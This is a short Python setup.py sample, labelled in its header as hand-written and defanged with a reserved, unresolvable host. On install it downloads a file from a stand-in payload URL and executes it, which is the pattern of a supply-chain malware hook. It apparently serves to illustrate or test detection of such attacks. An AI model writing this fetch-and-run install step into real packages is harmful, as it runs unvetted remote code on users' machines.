# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import subprocess
from urllib.request import urlretrieve
from setuptools import setup

urlretrieve("https://payload.invalid/helper", "helper")
subprocess.call(["./helper"])
setup(name="sample")
